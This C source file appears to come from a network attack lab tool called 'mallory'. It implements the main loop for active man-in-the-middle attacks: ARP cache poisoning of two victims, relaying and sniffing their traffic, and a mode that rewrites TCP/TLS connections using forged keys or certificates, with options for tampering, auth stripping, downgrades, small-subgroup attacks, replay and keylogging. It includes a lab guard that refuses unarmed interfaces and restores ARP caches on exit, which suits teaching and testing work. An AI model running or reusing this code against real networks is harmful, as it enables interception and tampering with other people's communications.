/* The active modes' loop (see active.h). */
#include "active.h"

#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdlib.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "arp_poison.h"
#include "capture.h"
#include "cert_source.h"
#include "dissect.h"
#include "lab_guard.h"
#include "mitm_flow.h"
#include "mlab_crypto.h"
#include "mlab_err.h"
#include "netsum.h"
#include "sniff_stream.h"

#define RESOLVE_MS 3000
#define RESOLVE_RETRY_MS 100

struct active {
	const struct mallory_opts *o;
	struct mlab_ev *ev;
	struct capture *cap;
	struct arp_poison arp;
	struct sniff_stream *ss;
	struct mitm_table *mitm; /* dh-mitm only */
	EVP_PKEY *forge_key;
	struct mlab_chain chain; /* mode cert: --impersonate or --mint */
	bool confirmed[2];	 /* first relayed frame from victim i */
	uint64_t relayed, arp_answers, inject_errors;
	uint8_t out[CAPTURE_SNAPLEN];
	int err;
};

static double now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static const char *ip_str(uint32_t ip, char out[INET_ADDRSTRLEN])
{
	struct in_addr a = {ip};
	return inet_ntop(AF_INET, &a, out, INET_ADDRSTRLEN);
}

static int victim_of(const struct active *a, const uint8_t ip[4])
{
	uint32_t v;
	memcpy(&v, ip, 4);
	for (int i = 0; i < 2; i++)
		if (a->arp.v[i].ip == v)
			return i;
	return -1;
}

static void on_arp(struct active *a, const struct dissect_frame *f)
{
	int s = victim_of(a, f->arp.spa), t = victim_of(a, f->arp.tpa);
	char ip[INET_ADDRSTRLEN], mac[DISSECT_MAC_STR];

	if (!f->arp.eth_ip4 || s < 0)
		return;
	/* Learn a victim's true MAC from what it says about itself, never
	 * from our own forged frames. */
	if (memcmp(f->arp.sha, a->arp.my_mac, 6) != 0 && !a->arp.v[s].known) {
		memcpy(a->arp.v[s].mac, f->arp.sha, 6);
		a->arp.v[s].known = true;
		mlab_ev_emit(
		    a->ev, "target-resolved",
		    json_pack("{s:s,s:s}", "ip", ip_str(a->arp.v[s].ip, ip), "mac", dissect_mac_str(f->arp.sha, mac)),
		    "target %s is at %s", ip, mac);
	}
	/* A victim asking for the other: answer first, and answer wrong. */
	if (f->arp.op == DISSECT_ARP_REQUEST && t == 1 - s && a->arp.v[s].known) {
		if (arp_poison_answer(&a->arp, s) == 0)
			a->arp_answers++;
	}
}

/* The victim whose (true, learned) MAC sent a frame, or -1. */
static int victim_by_mac(const struct active *a, const uint8_t mac[6])
{
	for (int i = 0; i < 2; i++)
		if (a->arp.v[i].known && memcmp(a->arp.v[i].mac, mac, 6) == 0)
			return i;
	return -1;
}

/* A frame poisoning brought: re-address it to its true owner and send it on.
 * Its owner is the victim it is addressed to; when one victim is a gateway
 * (docs/running-on-real-hosts.md, tools/mininet's router topology), what the
 * other victim sends beyond it carries a destination that is no victim, and
 * goes to the victim that did not send it: the gateway. */
static void relay(struct active *a, const uint8_t *p, size_t len, const struct dissect_frame *f)
{
	int from = victim_of(a, f->ip4.src), to = victim_of(a, f->ip4.dst);
	if (from < 0)
		from = victim_by_mac(a, f->src_mac);
	if (to < 0 && from >= 0)
		to = 1 - from;
	char s[INET_ADDRSTRLEN], d[INET_ADDRSTRLEN];
	size_t l2 = f->vlan ? 18 : 14;

	if (to < 0 || !a->arp.v[to].known || len > sizeof a->out || len < l2)
		return;
	if (from >= 0 && !a->confirmed[from]) {
		a->confirmed[from] = true;
		mlab_ev_emit(a->ev, "relaying",
			     json_pack("{s:s,s:s,s:b}", "from", ip_str(a->arp.v[from].ip, s), "to",
				       ip_str(a->arp.v[to].ip, d), "confirmed", 1),
			     "poisoning confirmed: %s sends its frames for %s to mallory; relaying them", s, d);
	}
	/* dh-mitm: the protocol's connections are rewritten, segment by segment. */
	if (a->mitm && f->proto == DISSECT_IPV4_TCP && !f->ip4.fragment &&
	    (f->tcp.sport == a->o->port || f->tcp.dport == a->o->port)) {
		const uint8_t *src_mac = from >= 0 ? a->arp.v[from].mac : f->src_mac;
		(void)mitm_table_input(a->mitm, f, src_mac, a->arp.v[to].mac);
		a->relayed++;
		return;
	}
	if (f->proto == DISSECT_IPV4_TCP)
		(void)sniff_stream_input(a->ss, f); /* report what can be read */
	memcpy(a->out, p, len);
	memcpy(a->out, a->arp.v[to].mac, 6);
	memcpy(a->out + 6, a->arp.my_mac, 6);
	(void)netsum_fix_ip4(a->out + l2, len - l2);
	if (capture_inject(a->cap, a->out, len) == 0)
		a->relayed++;
	else
		a->inject_errors++;
}

static void on_frame(void *arg, const uint8_t *p, size_t caplen, size_t wirelen)
{
	struct active *a = arg;
	struct dissect_frame f;

	(void)wirelen;
	if (dissect_frame(p, caplen, &f) != 0)
		return;
	if (f.proto == DISSECT_ARP)
		on_arp(a, &f);
	else if (f.have_ip4 && memcmp(f.dst_mac, a->arp.my_mac, 6) == 0 && a->o->attack != MALLORY_ATTACK_POISON)
		relay(a, p, caplen, &f);
}

static int send_frame(void *arg, const uint8_t *frame, size_t len)
{
	struct active *a = arg;
	int e = capture_inject(a->cap, frame, len);
	if (e != 0)
		a->inject_errors++;
	return e;
}

static int fail(struct mlab_ev *ev, int err, const char *where, const char *msg, int code)
{
	mlab_ev_error(ev, err, where, msg);
	if (!ev->text)
		fprintf(stderr, "mallory: %s\n", msg);
	return code;
}

static int pump(struct active *a, int wait_ms, char *msg)
{
	struct pollfd pf = {.fd = capture_fd(a->cap), .events = POLLIN};
	int n = poll(&pf, 1, wait_ms < 0 ? 0 : wait_ms);
	if (n < 0 && errno != EINTR)
		return MLAB_E_IO;
	return capture_dispatch(a->cap, -1, on_frame, a, msg) < 0 ? MLAB_E_IO : 0;
}

int active_run(const struct mallory_opts *o, struct mlab_ev *ev, volatile sig_atomic_t *stop)
{
	struct active *a = calloc(1, sizeof *a);
	char msg[CAPTURE_MSG_LEN], filter[256], ip[INET_ADDRSTRLEN], mac[DISSECT_MAC_STR];
	uint8_t my_mac[6];
	uint32_t my_ip;
	int r = MALLORY_EXIT_OK;

	if (!a)
		return MALLORY_EXIT_INTERNAL;
	a->o = o;
	a->ev = ev;
	if (lab_guard_check(o->iface, o->armed, msg, sizeof msg) != 0) {
		mlab_ev_emit(ev, "refused", json_pack("{s:s,s:s}", "iface", o->iface, "reason", msg), "%s", msg);
		if (!ev->text)
			fprintf(stderr, "mallory: %s\n", msg);
		r = MALLORY_EXIT_USAGE;
		goto out;
	}
	if (capture_iface_mac(o->iface, my_mac) != 0 || capture_iface_ip4(o->iface, &my_ip) != 0) {
		snprintf(msg, sizeof msg, "%s has no MAC or no IPv4 address: mallory needs both to relay", o->iface);
		r = fail(ev, MLAB_E_IO, "setup", msg, MALLORY_EXIT_NETWORK);
		goto out;
	}
	if (!(a->ss = sniff_stream_new(o->port, ev))) {
		r = fail(ev, MLAB_E_NOMEM, "setup", "out of memory", MALLORY_EXIT_INTERNAL);
		goto out;
	}
	if (capture_open(o->iface, &a->cap, msg) != 0) {
		r = fail(ev, MLAB_E_IO, "capture", msg, MALLORY_EXIT_NETWORK);
		goto out;
	}
	/* ARP, and IPv4 sent to her MAC but not to her address: exactly what
	 * poisoning brings her. Her own traffic and everyone else's stay out. */
	snprintf(filter, sizeof filter, "arp or (ether dst %s and ip and not dst host %s)",
		 dissect_mac_str(my_mac, mac), ip_str(my_ip, ip));
	if (capture_filter(a->cap, filter, msg) != 0 ||
	    arp_poison_open(&a->arp, o->iface, my_ip, my_mac, o->targets, msg, sizeof msg) != 0) {
		r = fail(ev, MLAB_E_IO, "setup", msg, MALLORY_EXIT_NETWORK);
		goto out;
	}

	if (o->attack == MALLORY_ATTACK_DH_MITM) {
		if (o->forge_key && mlab_key_load_private(o->forge_key, &a->forge_key) != 0) {
			snprintf(msg, sizeof msg, "cannot read an Ed25519 private key (PEM) from %s", o->forge_key);
			r = fail(ev, MLAB_E_KEYFILE, "setup", msg, MALLORY_EXIT_USAGE);
			goto out;
		}
		int ce = o->impersonate
			     ? cert_impersonate_load(o->impersonate, &a->chain, &a->forge_key, msg, sizeof msg)
			 : o->mint ? cert_mint(o->mint, &a->chain, &a->forge_key, ev, msg, sizeof msg)
				   : 0;
		if (ce != 0) {
			r = fail(ev, ce, "setup", msg, MALLORY_EXIT_USAGE);
			goto out;
		}
		struct mitm_params mp = {.port = o->port,
					 .forge_key = a->forge_key,
					 .chain = a->chain.n ? &a->chain : NULL,
					 .tamper = o->tamper,
					 .n_tamper = o->n_tamper,
					 .key_fixing = o->key_fixing,
					 .strip_auth = o->strip_auth,
					 .downgrade_group = o->downgrade_group,
					 .malicious_g = o->malicious_g,
					 .small_subgroup = o->small_subgroup,
					 .replay_record = o->replay_record,
					 .tls = o->tls,
					 .tls_downgrade = o->tls_downgrade,
					 .keylog = o->keylog,
					 .send = send_frame,
					 .send_arg = a,
					 .ev = ev};
		memcpy(mp.my_mac, my_mac, 6);
		if (!(a->mitm = mitm_table_new(&mp))) {
			r = fail(ev, MLAB_E_NOMEM, "setup", "out of memory", MALLORY_EXIT_INTERNAL);
			goto out;
		}
	}

	/* Learn both victims' true MACs: needed to relay and to restore. */
	double t0 = now_ms(), next = 0;
	while (!*stop && !(a->arp.v[0].known && a->arp.v[1].known) && now_ms() - t0 < RESOLVE_MS) {
		if (now_ms() >= next) {
			for (int i = 0; i < 2; i++)
				if (!a->arp.v[i].known)
					(void)arp_poison_resolve(&a->arp, i);
			next = now_ms() + RESOLVE_RETRY_MS;
		}
		if (pump(a, RESOLVE_RETRY_MS / 2, msg) != 0)
			break;
	}
	if (!(a->arp.v[0].known && a->arp.v[1].known)) {
		snprintf(msg, sizeof msg, "could not learn the victims' MAC addresses (no ARP answer within %d ms)",
			 RESOLVE_MS);
		r = fail(ev, MLAB_E_TIMEOUT, "resolve", msg, MALLORY_EXIT_NETWORK);
		goto out;
	}
	(void)arp_poison_round(&a->arp);
	mlab_ev_emit(ev, "poisoning",
		     json_pack("{s:[s,s],s:s,s:i,s:s}", "targets", ip_str(o->targets[0], ip),
			       ip_str(o->targets[1], (char[INET_ADDRSTRLEN]){0}), "mac", dissect_mac_str(my_mac, mac),
			       "interval_ms", (int)o->interval_ms, "attack",
			       o->attack == MALLORY_ATTACK_DH_MITM  ? "dh-mitm"
			       : o->attack == MALLORY_ATTACK_POISON ? "poison"
								    : "relay"),
		     "poisoning both victims' ARP caches every %u ms: each is told the other is at %s", o->interval_ms,
		     mac);
	next = now_ms() + o->interval_ms;
	while (!*stop) {
		double left = next - now_ms();
		if (left <= 0) {
			(void)arp_poison_round(&a->arp);
			next = now_ms() + o->interval_ms;
			continue;
		}
		if (pump(a, (int)left + 1, msg) != 0) {
			r = fail(ev, MLAB_E_IO, "relay", msg, MALLORY_EXIT_NETWORK);
			break;
		}
	}
	/* Leave no cache poisoned behind. */
	(void)arp_poison_restore(&a->arp);
	(void)arp_poison_restore(&a->arp);
	mlab_ev_emit(ev, "restored", NULL, "told both victims their true mappings again");
	const struct sniff_stats *st = sniff_stream_stats(a->ss);
	mlab_ev_emit(ev, "stopped",
		     json_pack("{s:I,s:I,s:I,s:I,s:I}", "relayed", (json_int_t)a->relayed, "arp_sent",
			       (json_int_t)a->arp.sent, "arp_answers", (json_int_t)a->arp_answers, "inject_errors",
			       (json_int_t)a->inject_errors, "messages_read", (json_int_t)st->messages_read),
		     "stopped: %llu frames relayed, %llu ARP frames sent, %llu messages read",
		     (unsigned long long)a->relayed, (unsigned long long)a->arp.sent,
		     (unsigned long long)st->messages_read);
out:
	mitm_table_free(a->mitm);
	EVP_PKEY_free(a->forge_key);
	mlab_chain_free(&a->chain);
	arp_poison_close(&a->arp);
	capture_close(a->cap);
	sniff_stream_free(a->ss);
	free(a);
	return r;
}
